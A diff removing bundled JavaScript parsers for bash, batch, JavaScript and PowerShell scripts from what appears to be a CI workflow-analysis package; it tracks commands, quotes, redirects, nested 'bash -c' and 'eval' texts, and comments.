-/** Index of the first range that begins at `offset` or after it. */
-function firstFrom(ranges, offset) {
-    let low = 0;
-    let high = ranges.length;
-    while (low < high) {
-        const middle = (low + high) >> 1;
-        if (ranges[middle].start < offset)
-            low = middle + 1;
-        else
-            high = middle;
-    }
-    return low;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/read.js
-
-
-
-
-
-const TOP = {
-    conditions: [],
-    inSubstitution: false,
-    inFunction: undefined,
-    group: undefined,
-    nestedIn: undefined,
-};
-/** How deep texts of `bash -c` and `eval` are read. */
-const MAX_NESTING = 4;
-/** The commands of a bash or sh script. Never throws. */
-function readBash(source) {
-    const collected = { commands: [], groups: [] };
-    readText(source, source.masked, unmoved, TOP, collected);
-    // The list grows while nested texts are found.
-    for (let index = 0; index < collected.commands.length; index++) {
-        readNested(source, collected.commands[index], collected);
-    }
-    collected.commands.sort((a, b) => a.start - b.start);
-    return collected;
-}
-/** The commands of a script in a language that resembles a shell; nothing nested is looked into. */
-function readWords(source) {
-    const collected = { commands: [], groups: [] };
-    splitScript(source, source.masked, unmoved, TOP, collected);
-    collected.commands.sort((a, b) => a.start - b.start);
-    return collected;
-}
-function readText(source, masked, placement, place, collected) {
-    const tree = parseBash(masked);
-    if (!tree) {
-        splitScript(source, masked, placement, place, collected);
-        return;
-    }
-    const before = { commands: collected.commands.length, groups: collected.groups.length };
-    try {
-        convertScript(tree, source, masked, placement, place, collected);
-    }
-    catch (error) {
-        // Trees may be deeper than our stack; whatever else goes wrong, the words of the script are still there.
-        if (!(error instanceof RangeError))
-            throw error;
-        collected.commands.length = before.commands;
-        collected.groups.length = before.groups;
-        splitScript(source, masked, placement, place, collected);
-    }
-}
-function readNested(source, command, collected) {
-    const word = nestedText(command);
-    if (!word || nestingOf(command) >= MAX_NESTING)
-        return;
-    const place = {
-        ...TOP,
-        conditions: command.place.conditions,
-        inFunction: command.place.inFunction,
-        nestedIn: command,
-    };
-    const inside = plainBody(word, source);
-    if (inside !== undefined) {
-        readText(source, source.masked.slice(inside.start, inside.end), cutAt(unmoved, inside.start), place, collected);
-    }
-    else if (word.literal !== undefined) {
-        readText(source, word.literal, madeFrom(word), place, collected);
-    }
-}
-function nestingOf(command) {
-    let depth = 0;
-    for (let at = command.place.nestedIn; at; at = at.place.nestedIn)
-        depth++;
-    return depth;
-}
-const SHELLS = new Set(["bash", "sh", "dash", "zsh", "ksh", "ash"]);
-/** The word that a command runs as a script: after `bash -c` (also `-ec`, `-lc`), or the one argument of `eval`. */
-function nestedText(command) {
-    const { name, args } = effectiveCommand(command);
-    const program = name?.literal;
-    if (program === undefined)
-        return undefined;
-    if (program === "eval")
-        return args.length === 1 ? args[0] : undefined;
-    if (!SHELLS.has(program.slice(program.lastIndexOf("/") + 1)))
-        return undefined;
-    for (let index = 0; index < args.length; index++) {
-        const option = args[index]?.literal;
-        if (option === undefined || !/^[-+]/.test(option))
-            return undefined;
-        if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(option))
-            return args[index + 1];
-        if (/^[-+]o$/.test(option))
-            index++;
-    }
-    return undefined;
-}
-/** The range between the quotes, when the word is one quoted text that means what it says. */
-function plainBody(word, source) {
-    const { start, end } = word;
-    const quote = source.masked[start];
-    if (end - start < 2 || source.masked[end - 1] !== quote)
-        return undefined;
-    const body = source.masked.slice(start + 1, end - 1);
-    const isPlain = quote === "'" ? !body.includes("'") : quote === '"' && !/["\\$`]/.test(body);
-    return isPlain ? { start: start + 1, end: end - 1 } : undefined;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/cmd/read.js
-
-
-/** Commands and quotes of a batch script, found by one tolerant pass. Never throws. */
-function readCmd(source) {
-    return new CmdReader(source).run();
-}
-const read_TOP = {
-    conditions: [],
-    inSubstitution: false,
-    inFunction: undefined,
-    group: undefined,
-    nestedIn: undefined,
-};
-const read_VARIABLE = /%([A-Za-z_#$@][^%\s:=]{0,100})(:[^%\n]{0,200})?%|!([A-Za-z_#$@][^!\s:=]{0,100})(:[^!\n]{0,200})?!|%%?(~[a-z]*)?([A-Za-z0-9*])/iy;
-const read_REDIRECT = /([0-9]?)(>>|>|<)(&[0-9])?/y;
-const read_ASSIGNMENT = /^\s*(?:\/[aApP]\s+)?"?([^=\s"]+)=/;
-const read_MAX_DEPTH = 100;
-class CmdReader {
-    source;
-    text;
-    recorder = new RegionRecorder();
-    commands = [];
-    groups = [];
-    open = [];
-    stages = [];
-    draft;
-    isConditional = false;
-    at = 0;
-    constructor(source) {
-        this.source = source;
-        this.text = source.masked;
-    }
-    run() {
-        const { text } = this;
-        while (this.at < text.length) {
-            const char = text[this.at];
-            if (" \t\r,;=".includes(char))
-                this.at++;
-            else if (char === "\n") {
-                this.endPipeline();
-                this.isConditional = false;
-                this.at++;
-            }
-            else if (char === "^" && /[\r\n]/.test(text[this.at + 1] ?? ""))
-                this.at += text[this.at + 1] === "\r" ? 3 : 2;
-            else if (!this.draft && this.comment())
-                continue;
-            else if (char === "&" || char === "|")
-                this.operator(char);
-            else if (char === "(" && !this.draft?.words.length)
-                this.openGroup();
-            else if (char === ")" && this.open.length > 0)
-                this.closeGroup();
-            else if (this.redirectAt())
-                this.redirect();
-            else
-                this.word();
-        }
-        this.endPipeline();
-        while (this.open.length > 0)
-            this.closeGroup();
-        this.commands.sort((a, b) => a.start - b.start);
-        return { commands: this.commands, groups: this.groups, regions: this.recorder.finish(text.length) };
-    }
-    get place() {
-        const group = this.open[this.open.length - 1]?.group;
-        if (!group && !this.isConditional)
-            return read_TOP;
-        const conditions = group?.place.conditions ?? [];
-        return { ...read_TOP, group, conditions: this.isConditional ? [...conditions, "if-body"] : conditions };
-    }
-    /** `rem …` and `:: …` up to the end of the line; a label too. */
-    comment() {
-        const { text, at } = this;
-        const isComment = text[at] === ":" || /^@?rem(?:\s|$)/i.test(text.slice(at, at + 5));
-        if (!isComment)
-            return false;
-        this.recorder.enter(at, "comment");
-        const end = text.indexOf("\n", at);
-        this.at = end < 0 ? text.length : end;
-        this.recorder.enter(this.at, "none");
-        return true;
-    }
-    operator(char) {
-        const isDouble = this.text[this.at + 1] === char;
-        if (char === "|" && !isDouble)
-            this.endCommand();
-        else {
-            this.endPipeline();
-            if (isDouble)
-                this.isConditional = true;
-        }
-        this.at += isDouble ? 2 : 1;
-    }
-    openGroup() {
-        const start = this.at++;
-        if (this.open.length >= read_MAX_DEPTH)
-            return;
-        const group = {
-            kind: "block",
-            start,
-            end: start,
-            name: undefined,
-            words: [],
-            redirects: this.draft?.redirects ?? [],
-            commands: [],
-            place: this.place,
-            pipeline: undefined,
-        };
-        this.draft = undefined;
-        this.groups.push(group);
-        this.open.push({ group, stages: this.stages });
-        this.stages = [];
-    }
-    closeGroup() {
-        this.endCommand();
-        this.linkStages();
-        this.at = Math.min(this.at + 1, this.text.length);
-        const { group, stages } = this.open.pop();
-        group.end = this.at;
-        const outer = this.open[this.open.length - 1]?.group.commands;
-        if (outer)
-            for (const command of group.commands)
-                outer.push(command);
-        this.stages = stages;
-        this.draft = { start: group.start, end: this.at, words: [], redirects: group.redirects, closed: group };
-    }
-    begin() {
-        this.draft ??= { start: this.at, end: this.at, words: [], redirects: [], closed: undefined };
-        return this.draft;
-    }
-    redirectAt() {
-        read_REDIRECT.lastIndex = this.at;
-        return read_REDIRECT.test(this.text);
-    }
-    redirect() {
-        const draft = this.begin();
-        const start = this.at;
-        read_REDIRECT.lastIndex = start;
-        const match = read_REDIRECT.exec(this.text);
-        this.at += match[0].length;
-        while (this.text[this.at] === " " || this.text[this.at] === "\t")
-            this.at++;
-        const hasTarget = !match[3] && this.at < this.text.length && !"\r\n&|()<>".includes(this.text[this.at]);
-        const target = hasTarget ? this.readWord() : undefined;
-        draft.redirects.push({
-            start,
-            end: this.at,
-            operator: match[3] ? ">&" : match[2],
-            descriptor: match[1] === "" ? undefined : match[1],
-            target,
-            heredoc: undefined,
-        });
-        draft.end = this.at;
-    }
-    word() {
-        const draft = this.draft;
-        if (draft?.closed) {
-            // `) else (`: the group is over.
-            this.endCommand();
-        }
-        const start = this.at;
-        const word = this.readWord();
-        const isFirst = this.draft === undefined || this.draft.words.length === 0;
-        const keyword = isFirst ? word.text.toLowerCase().replace(/^@/, "") : "";
-        if (keyword === "if" || keyword === "for" || keyword === "else") {
-            this.header(keyword);
-            return;
-        }
-        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
-        this.draft.words.push(word);
-        this.draft.end = word.end;
-    }
-    /** Goes over the condition of `if` and the set of `for`: what follows is a command of its own. */
-    header(keyword) {
-        this.draft = undefined;
-        this.isConditional = true;
-        if (keyword === "else")
-            return;
-        const line = this.lineEnd();
-        if (keyword === "for") {
-            const found = /\bdo\b/i.exec(this.text.slice(this.at, line));
-            this.skipTo(found ? this.at + found.index + 2 : line);
-            return;
-        }
-        const condition = /^\s*(?:\/i\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel)\s+(?:"[^"\n]*"|\S+)|(?:"[^"\n]*"|[^\s"=]+)\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"\n]*"|\S+))/i.exec(this.text.slice(this.at, Math.min(line, this.at + 1000)));
-        if (condition)
-            this.skipTo(this.at + condition[0].length);
-    }
-    lineEnd() {
-        const end = this.text.indexOf("\n", this.at);
-        return end < 0 ? this.text.length : end;
-    }
-    /** Moves on, and notes quotes on the way. */
-    skipTo(end) {
-        while (this.at < end) {
-            if (this.text[this.at] === '"')
-                this.quote(end);
-            else
-                this.at++;
-        }
-    }
-    quote(limit) {
-        const close = this.text.slice(this.at + 1, limit).search(/["\n]/);
-        const end = close < 0 ? limit : this.at + 1 + close + (this.text[this.at + 1 + close] === '"' ? 1 : 0);
-        this.recorder.enter(this.at, "double");
-        this.at = end;
-        this.recorder.enter(end, "none");
-    }
-    readWord() {
-        const { text } = this;
-        const start = this.at;
-        let isQuoted = false;
-        while (this.at < text.length) {
-            const char = text[this.at];
-            if (char === "\n")
-                break;
-            if (char === '"') {
-                if (!isQuoted)
-                    this.recorder.enter(this.at, "double");
-                isQuoted = !isQuoted;
-                this.at++;
-                if (!isQuoted)
-                    this.recorder.enter(this.at, "none");
-                continue;
-            }
-            if (!isQuoted) {
-                if (char === "^" && !/[\r\n]/.test(text[this.at + 1] ?? "\n")) {
-                    this.at += 2;
-                    continue;
-                }
-                if (" \t\r^&|<>".includes(char) || (char === ")" && this.open.length > 0))
-                    break;
-            }
-            this.at++;
-        }
-        if (isQuoted)
-            this.recorder.enter(this.at, "none");
-        this.at = Math.min(Math.max(this.at, start + 1), text.length);
-        return new CmdWord(this.source, { start, end: this.at });
-    }
-    endPipeline() {
-        this.endCommand();
-        this.linkStages();
-    }
-    linkStages() {
-        const { stages } = this;
-        if (stages.length > 1) {
-            stages.forEach((stage, index) => {
-                stage.pipeline = { index, stages };
-            });
-        }
-        this.stages = [];
-    }
-    endCommand() {
-        const { draft } = this;
-        this.draft = undefined;
-        if (!draft)
-            return;
-        if (draft.closed) {
-            this.stages.push(draft.closed);
-            return;
-        }
-        const [name, ...args] = draft.words;
-        const command = {
-            kind: "command",
-            start: draft.start,
-            end: draft.end,
-            name,
-            args,
-            assignments: name && /^@?set$/i.test(name.text) ? this.assignments(args) : [],
-            redirects: draft.redirects,
-            place: this.place,
-            pipeline: undefined,
-        };
-        this.commands.push(command);
-        this.open[this.open.length - 1]?.group.commands.push(command);
-        this.stages.push(command);
-    }
-    /** `set NAME=value with blanks`, `set "NAME=value"`. */
-    assignments(args) {
-        const first = args[0];
-        const last = args[args.length - 1];
-        if (!first || !last)
-            return [];
-        const text = this.text.slice(first.start, last.end);
-        const match = read_ASSIGNMENT.exec(text.slice(0, 1000));
-        if (!match)
-            return [];
-        const { start } = first;
-        const value = new CmdWord(this.source, { start: start + match[0].length, end: last.end });
-        return [
-            { start, end: last.end, name: match[1], append: false, values: value.end > value.start ? [value] : [] },
-        ];
-    }
-}
-class CmdWord {
-    source;
-    start;
-    end;
-    #parts;
-    constructor(source, span) {
-        this.source = source;
-        this.start = span.start;
-        this.end = span.end;
-    }
-    get text() {
-        return this.source.text.slice(this.start, this.end);
-    }
-    get parts() {
-        this.#parts ??= partsOf(this.source, this.start, this.end);
-        return this.#parts;
-    }
-    get literal() {
-        return literalOf(this.parts);
-    }
-}
-function partsOf(source, start, end) {
-    const text = source.masked;
-    const parts = [];
-    let quoted = "none";
-    let value = "";
-    let valueStart = start;
-    let at = start;
-    const flush = () => {
-        if (value !== "")
-            parts.push(...literalParts(source, value, valueStart, at, quoted));
-        value = "";
-    };
-    while (at < end) {
-        const char = text[at];
-        if (char === '"') {
-            flush();
-            quoted = quoted === "none" ? "double" : "none";
-            valueStart = ++at;
-            continue;
-        }
-        read_VARIABLE.lastIndex = at;
-        const match = char === "%" || char === "!" ? read_VARIABLE.exec(text) : null;
-        if (match && at + match[0].length <= end) {
-            flush();
-            const name = match[1] ?? match[3] ?? match[6];
-            const operator = match[2] ?? match[4] ?? match[5];
-            parts.push({ kind: "variable", start: at, end: at + match[0].length, quoted, name, operator, operand: [] });
-            at += match[0].length;
-            valueStart = at;
-            continue;
-        }
-        if (char === "^" && quoted === "none" && at + 1 < end)
-            at++;
-        value += text[at];
-        at++;
-    }
-    flush();
-    return parts;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/javascript/lex.js
-
-
-/**
- * String literals, templates, regular expressions and comments of a JavaScript program. Never throws.
- *
- * @see ECMAScript, section 12 "Lexical Grammar"
- */
-function lexJavaScript(source) {
-    return new JavaScriptLexer(source).run();
-}
-/** A `/` after one of these words begins a regular expression. */
-const BEFORE_REGEX = new Set([
-    "return",
-    "typeof",
-    "case",
-    "in",
-    "of",
-    "delete",
-    "void",
-    "throw",
-    "new",
-    "do",
-    "else",
-    "await",
-    "yield",
-    "instanceof",
-]);
-const IDENTIFIER = /[A-Za-z0-9_$\u0080-\uffff]+/y;
-const lex_MAX_DEPTH = 200;
-/** Longer ones are divisions on one long line. */
-const MAX_REGEX = 2000;
-class JavaScriptLexer {
-    source;
-    text;
-    recorder = new RegionRecorder();
-    strings = [];
-    templates = [];
-    at = 0;
-    /** Would a `/` here begin a regular expression? */
-    isOperandNext = true;
-    constructor(source) {
-        this.source = source;
-        this.text = source.masked;
-    }
-    run() {
-        const { text } = this;
-        while (this.at < text.length) {
-            const template = this.templates[this.templates.length - 1];
-            if (template?.braces === -1)
-                this.templateText(template);
-            else
-                this.code(template);
-        }
-        while (this.templates.length > 0)
-            this.endTemplate(text.length);
-        this.strings.sort((a, b) => a.start - b.start);
-        return { regions: this.recorder.finish(text.length), strings: this.strings };
-    }
-    get around() {
-        return this.templates.length > 0 ? "template-expression" : "none";
-    }
-    code(template) {
-        const { text, at } = this;
-        const char = text[at];
-        if (char === "'" || char === '"')
-            this.string(char);
-        else if (char === "`")
-            this.openTemplate();
-        else if (char === "/")
-            this.slash();
-        else if (char === "{" || char === "}") {
-            if (template && char === "}" && template.braces === 0) {
-                template.braces = -1;
-                this.recorder.enter(at, "template");
-            }
-            else if (template)
-                template.braces += char === "{" ? 1 : -1;
-            this.isOperandNext = true;
-            this.at++;
-        }
-        else if (char === ")" || char === "]") {
-            this.isOperandNext = false;
-            this.at++;
-        }
-        else if (/\s/.test(char))
-            this.at++;
-        else {
-            IDENTIFIER.lastIndex = at;
-            const word = IDENTIFIER.exec(text)?.[0];
-            this.at += word?.length ?? 1;
-            this.isOperandNext = word === undefined || BEFORE_REGEX.has(word);
-        }
-    }
-    string(quote) {
-        const { text } = this;
-        const start = this.at;
-        this.recorder.enter(start, quote === "'" ? "single" : "double");
-        let end = start + 1;
-        while (end < text.length && text[end] !== quote && text[end] !== "\n")
-            end += text[end] === "\\" ? 2 : 1;
-        const bodyEnd = Math.min(end, text.length);
-        this.at = text[bodyEnd] === quote ? bodyEnd + 1 : bodyEnd;
-        this.recorder.enter(this.at, this.around);
-        this.add(start, start + 1, bodyEnd, quote, quote === "'" ? "single" : "double", true);
-        this.isOperandNext = false;
-    }
-    openTemplate() {
-        this.recorder.enter(this.at, "template");
-        if (this.templates.length < lex_MAX_DEPTH)
-            this.templates.push({ start: this.at, hasFields: false, braces: -1 });
-        this.at++;
-    }
-    templateText(template) {
-        const { text } = this;
-        while (this.at < text.length) {
-            const char = text[this.at];
-            if (char === "\\")
-                this.at += 2;
-            else if (char === "`") {
-                this.at++;
-                this.endTemplate(this.at);
-                return;
-            }
-            else if (char === "$" && text[this.at + 1] === "{") {
-                this.at += 2;
-                template.hasFields = true;
-                template.braces = 0;
-                this.isOperandNext = true;
-                this.recorder.enter(this.at, "template-expression");
-                return;
-            }
-            else
-                this.at++;
-        }
-        this.at = Math.min(this.at, text.length);
-    }
-    endTemplate(end) {
-        const { start, hasFields, braces } = this.templates.pop();
-        const isClosed = braces === -1 && end - start > 1 && this.text[end - 1] === "`";
-        this.add(start, Math.min(start + 1, end), isClosed ? end - 1 : end, "`", "template", !hasFields, end);
-        this.recorder.enter(end, this.around);
-        this.isOperandNext = false;
-    }
-    add(start, bodyStart, bodyEnd, quote, kind, mayBeStatic, end = this.at) {
-        const isStatic = mayBeStatic && !holdsExpression(this.source.expressions, start, end);
-        const body = this.text.slice(bodyStart, bodyEnd);
-        this.strings.push({
-            start,
-            end,
-            body: { start: bodyStart, end: bodyEnd },
-            kind,
-            quote,
-            value: isStatic ? lex_decode(body) : undefined,
-        });
-    }
-    slash() {
-        const { text, at } = this;
-        const next = text[at + 1];
-        if (next === "/" || next === "*") {
-            this.recorder.enter(at, "comment");
-            const close = next === "/" ? text.indexOf("\n", at) : text.indexOf("*/", at + 2);
-            this.at = close < 0 ? text.length : next === "/" ? close : close + 2;
-            this.recorder.enter(this.at, this.around);
-        }
-        else if (this.isOperandNext)
-            this.regex();
-        else {
-            this.isOperandNext = true;
-            this.at++;
-        }
-    }
-    regex() {
-        const { text } = this;
-        const start = this.at;
-        let isClass = false;
-        let at = start + 1;
-        const limit = Math.min(text.length, start + MAX_REGEX);
-        while (at < limit && text[at] !== "\n") {
-            const char = text[at];
-            if (char === "\\")
-                at++;
-            else if (char === "[")
-                isClass = true;
-            else if (char === "]")
-                isClass = false;
-            else if (char === "/" && !isClass)
-                break;
-            at++;
-        }
-        if (text[at] !== "/") {
-            // A division after all.
-            this.at = start + 1;
-            return;
-        }
-        this.recorder.enter(start, "regex");
-        IDENTIFIER.lastIndex = at + 1;
-        this.at = at + 1 + (IDENTIFIER.exec(text)?.[0].length ?? 0);
-        this.recorder.enter(this.at, this.around);
-        this.isOperandNext = false;
-    }
-}
-const ESCAPES = new Map([
-    ["n", "\n"],
-    ["r", "\r"],
-    ["t", "\t"],
-    ["\n", ""],
-]);
-function lex_decode(body) {
-    if (!body.includes("\\"))
-        return body;
-    return body.replace(/\\([\s\S])/g, (_, char) => ESCAPES.get(char) ?? char);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/read.js
-
-
-/** Commands and quotes of a PowerShell script, found by one tolerant pass. Never throws. */
-function readPwsh(source) {
-    return new PwshReader(source).run();
-}
-const pwsh_read_TOP = {
-    conditions: [],
-    inSubstitution: false,
-    inFunction: undefined,
-    group: undefined,
-    nestedIn: undefined,
-};
-/** Statements that begin with a word and have blocks; the condition is that of their blocks. */
-const KEYWORDS = new Map([
-    ["if", "if-body"],
-    ["elseif", "if-body"],
-    ["else", "else-body"],
-    ["for", "loop-body"],
-    ["foreach", "loop-body"],
-    ["while", "loop-body"],
-    ["do", "loop-body"],
-    ["until", undefined],
-    ["switch", "case-body"],
-    ["function", undefined],
-    ["filter", undefined],
-    ["try", undefined],
-    ["catch", "else-body"],
-    ["finally", undefined],
-    ["trap", "else-body"],
-    ["param", undefined],
-    ["begin", undefined],
-    ["process", undefined],
-    ["end", undefined],
-]);
-/** Words before an expression or a command that change nothing about what it is. */
-const PREFIXES = new Set(["return", "throw", "exit"]);
-const pwsh_read_MAX_DEPTH = 100;
-const pwsh_read_VARIABLE = /\$(?:\{([^}\n]{1,200})\}|((?:[A-Za-z]+:)?[A-Za-z_][A-Za-z0-9_]*|[$?^]))/y;
-const SPLAT = /@[A-Za-z_][A-Za-z0-9_]*/y;
-const pwsh_read_REDIRECT = /([1-6*]?)(>>|>)(&[12])?/y;
-class PwshReader {
-    source;
-    text;
-    recorder = new RegionRecorder();
-    commands = [];
-    groups = [];
-    at = 0;
-    depth = 0;
-    constructor(source) {
-        this.source = source;
-        this.text = source.masked;
-    }
-    run() {
-        // A closing bracket without an opening one ends nothing.
-        while (this.at < this.text.length) {
-            this.statements(pwsh_read_TOP, "", []);
-            this.at++;
-        }
-        this.commands.sort((a, b) => a.start - b.start);
-        return { commands: this.commands, groups: this.groups, regions: this.recorder.finish(this.text.length) };
-    }
-    /** Reads statements up to `closer`, which is left to the caller. */
-    statements(place, closer, into) {
-        const { text } = this;
-        let stages = [];
-        let draft;
-        let condition;
-        const endCommand = () => {
-            if (draft) {
-                const command = this.finish(draft, place);
-                into.push(command);
-                stages.push(command);
-            }
-            draft = undefined;
-        };
-        const endPipeline = () => {
-            endCommand();
-            const all = stages;
-            if (all.length > 1)
-                all.forEach((stage, index) => {
-                    stage.pipeline = { index, stages: all };
-                });
-            stages = [];
-        };
-        while (this.at < text.length) {
-            const start = this.at;
-            const char = text[start];
-            if (closer !== "" && char === closer)
-                break;
-            if (this.blank(char))
-                continue;
-            if (this.comment(char))
-                continue;
-            if (char === "\n" || char === ";") {
-                const isEmpty = draft === undefined && stages.length === 0;
-                if (!isEmpty && !(char === "\n" && this.pipeFollows()))
-                    endPipeline();
-                this.at++;
-            }
-            else if (char === "|") {
-                if (text[start + 1] === "|") {
-                    endPipeline();
-                    this.at += 2;
-                }
-                else {
-                    endCommand();
-                    this.at++;
-                    this.skipNewlines();
-                }
-            }
-            else if (char === "&") {
-                this.at++;
-                if (text[start + 1] === "&") {
-                    endPipeline();
-                    this.at++;
-                }
-                else if (draft)
-                    endPipeline();
-                else
-                    draft = newDraft(start, true);
-            }
-            else if (char === "." && !draft && /\s/.test(text[start + 1] ?? "")) {
-                draft = newDraft(start, true);
-                this.at++;
-            }
-            else if (char === "," || (char === ")" && closer !== ")") || (char === "}" && closer !== "}")) {
-                this.at++;
-            }
-            else if (char === "{" && (!draft || (draft.isCall && draft.words.length === 0)) && this.depth < pwsh_read_MAX_DEPTH) {
-                const isCall = draft !== undefined;
-                draft = undefined;
-                this.block(place, condition, into);
-                if (!isCall)
-                    condition = undefined;
-            }
-            else if (this.redirectAt(start)) {
-                draft ??= newDraft(start, false);
-                draft.redirects.push(this.redirect(place));
-                draft.end = this.at;
-            }
-            else if (draft && this.assignmentAt(start) && this.startAssignment(draft)) {
-                this.at += char === "=" ? 1 : 2;
-            }
-            else {
-                const word = this.word(place, draft === undefined);
-                const keyword = draft === undefined ? word.text.toLowerCase() : "";
-                if (KEYWORDS.has(keyword)) {
-                    endPipeline();
-                    condition = KEYWORDS.get(keyword);
-                    this.header(place, keyword, into);
-                }
-                else if (!PREFIXES.has(keyword)) {
-                    draft ??= newDraft(start, false);
-                    draft.words.push(word);
-                    draft.end = this.at;
-                }
-            }
-            if (this.at === start)
-                this.at++;
-        }
-        endPipeline();
-    }
-    blank(char) {
-        if (char === " " || char === "\t" || char === "\r") {
-            this.at++;
-            return true;
-        }
-        if (char === "`") {
-            // A backtick at the end of a line continues it.
-            const next = this.text[this.at + 1];
-            if (next === "\n" || next === undefined)
-                this.at += 2;
-            else if (next === "\r")
-                this.at += 3;
-            else
-                return false;
-            this.at = Math.min(this.at, this.text.length);
-            return true;
-        }
-        return false;
-    }
-    comment(char) {
-        const { text, at } = this;
-        const isBlock = char === "<" && text[at + 1] === "#";
-        if (!isBlock && char !== "#")
-            return false;
-        this.recorder.enter(at, "comment");
-        const end = isBlock ? text.indexOf("#>", at + 2) : text.indexOf("\n", at);
-        this.at = end < 0 ? text.length : isBlock ? end + 2 : end;
-        this.recorder.enter(this.at, "none");
-        return true;
-    }
-    /** A line that begins with `|` goes on with the line before (PowerShell 7). */
-    pipeFollows() {
-        let at = this.at + 1;
-        while (at < this.text.length && " \t\r\n".includes(this.text[at]))
-            at++;
-        return this.text[at] === "|" && this.text[at + 1] !== "|";
-    }
-    skipNewlines() {
-        while (this.at < this.text.length && " \t\r\n".includes(this.text[this.at]))
-            this.at++;
-    }
-    /** What stands between a keyword and its block: a condition in parentheses, a function's name. */
-    header(place, keyword, into) {
-        const { text } = this;
-        while (this.at < text.length && " \t".includes(text[this.at]))
-            this.at++;
-        if (keyword === "function" || keyword === "filter") {
-            while (this.at < text.length && /[\w:-]/.test(text[this.at]))
-                this.at++;
-        }
-        while (this.at < text.length && /[\w \t-]/.test(text[this.at]) && keyword === "switch")
-            this.at++;
-        while (this.at < text.length && " \t".includes(text[this.at]))
-            this.at++;
-        if (text[this.at] !== "(" || this.depth >= pwsh_read_MAX_DEPTH)
-            return;
-        const condition = keyword.endsWith("if")
-            ? "if-test"
-            : keyword === "while"
-                ? "loop-test"
-                : undefined;
-        this.at++;
-        this.nested(condition ? read_under(place, condition) : place, ")", into);
-    }
-    block(place, condition, into) {
-        const start = this.at;
-        const commands = [];
-        const group = {
-            kind: "block",
-            start,
-            end: start,
-            name: undefined,
-            words: [],
-            redirects: [],
-            commands,
-            place,
-            pipeline: undefined,
-        };
-        this.groups.push(group);
-        this.at++;
-        this.nested({ ...(condition ? read_under(place, condition) : place), group }, "}", commands);
-        group.end = this.at;
-        for (const command of commands)
-            into.push(command);
-    }
-    /** Statements up to and with the closing bracket; `at` is after the opening one. */
-    nested(place, closer, into) {
-        this.depth++;
-        this.statements(place, closer, into);
-        this.depth--;
-        if (this.at < this.text.length)
-            this.at++;
-    }
-    assignmentAt(at) {
-        const char = this.text[at];
-        return char === "=" || ("+-*/".includes(char) && this.text[at + 1] === "=");
-    }
-    /** `$x =`, `$x +=`: what follows is the value. */
-    startAssignment(draft) {
-        const target = draft.words[0];
-        const variable = target?.parts[target.parts.length - 1];
-        if (draft.assignment || draft.isCall || variable?.kind !== "variable" || draft.words.length > 1)
-            return false;
-        draft.assignment = { name: variable.name, append: this.text[this.at] !== "=", start: draft.start };
-        draft.words = [];
-        return true;
-    }
-    finish(draft, place) {
-        const { assignment, words } = draft;
-        const isExpression = !draft.isCall && (words.length === 0 || isExpressionWord(words[0]));
-        const assignments = assignment
-            ? [
-                {
-                    start: assignment.start,
-                    end: draft.end,
-                    name: assignment.name,
-                    append: assignment.append,
-                    values: isExpression ? words : [],
-                },
-            ]
-            : [];
-        const command = {
-            kind: "command",
-            start: draft.start,
-            end: Math.max(draft.end, draft.start + 1),
-            name: isExpression ? undefined : words[0],
-            args: isExpression ? (assignment ? [] : words) : words.slice(1),
-            assignments,
-            redirects: draft.redirects,
-            place,
-            pipeline: undefined,
-        };
-        this.commands.push(command);
-        return command;
-    }
-    redirectAt(offset) {
-        pwsh_read_REDIRECT.lastIndex = offset;
-        return pwsh_read_REDIRECT.test(this.text);
-    }
-    redirect(place) {
-        const start = this.at;
-        pwsh_read_REDIRECT.lastIndex = start;
-        const match = pwsh_read_REDIRECT.exec(this.text);
-        this.at += match[0].length;
-        const descriptor = match[1] === "" ? undefined : match[1];
-        if (match[3])
-            return { start, end: this.at, operator: ">&", descriptor, target: undefined, heredoc: undefined };
-        while (this.at < this.text.length && " \t".includes(this.text[this.at]))
-            this.at++;
-        const hasTarget = this.at < this.text.length && !"\r\n;|)}".includes(this.text[this.at]);
-        const target = hasTarget ? this.word(place, false) : undefined;
-        return { start, end: this.at, operator: match[2], descriptor, target, heredoc: undefined };
-    }
-    /** Reads one word; `isFirst`: an unquoted `=` ends it, since it may be an assignment's target. */
-    word(place, isFirst) {
-        const { text } = this;
-        const start = this.at;
-        const parts = [];
-        let value = "";
-        let valueStart = start;
-        const flush = () => {
-            if (value !== "")
-                parts.push(...literalParts(this.source, value, valueStart, this.at, "none"));
-            value = "";
-        };
-        while (this.at < text.length) {
-            const char = text[this.at];
-            const from = this.at;
-            if (" \t\r\n;|,)}".includes(char) || (char === "&" && from > start))
-                break;
-            if (isFirst && parts.length > 0 && value === "" && this.assignmentAt(from))
-                break;
-            if (char === ">" && from > start)
-                break;
-            if (char === "'" || char === '"') {
-                flush();
-                this.string(parts, char, place);
-            }
-            else if (char === "@" && (text[from + 1] === '"' || text[from + 1] === "'")) {
-                flush();
-                this.hereString(parts, text[from + 1], place);
-            }
-            else if (char === "`" && from + 1 < text.length) {
-                if (text[from + 1] === "\n" || text[from + 1] === "\r")
-                    break;
-                if (value === "")
-                    valueStart = from;
-                value += text[from + 1];
-                this.at += 2;
-                continue;
-            }
-            else if (this.bracketAt(from)) {
-                flush();
-                this.bracket(parts, "none", place);
-            }
-            else if (char === "$" && this.variableAt(from)) {
-                flush();
-                this.variable(parts, "none");
-            }
-            else if (char === "@" && this.splatAt(from)) {
-                flush();
-                parts.push({
-                    kind: "variable",
-                    start: from,
-                    end: SPLAT.lastIndex,
-                    quoted: "none",
-                    name: text.slice(from + 1, SPLAT.lastIndex),
-                    operator: "@",
-                    operand: [],
-                });
-                this.at = SPLAT.lastIndex;
-            }
-            else {
-                if (value === "")
-                    valueStart = from;
-                value += char;
-                this.at++;
-                continue;
-            }
-            valueStart = this.at;
-        }
-        if (this.at === start) {
-            value = text[start] ?? "";
-            valueStart = start;
-            this.at = Math.min(start + 1, text.length);
-        }
-        flush();
-        return new PwshWord(this.source, { start, end: this.at }, parts);
-    }
-    bracketAt(at) {
-        if (this.depth >= pwsh_read_MAX_DEPTH)
-            return false;
-        const char = this.text[at];
-        const next = this.text[at + 1];
-        return (char === "(" ||
-            char === "{" ||
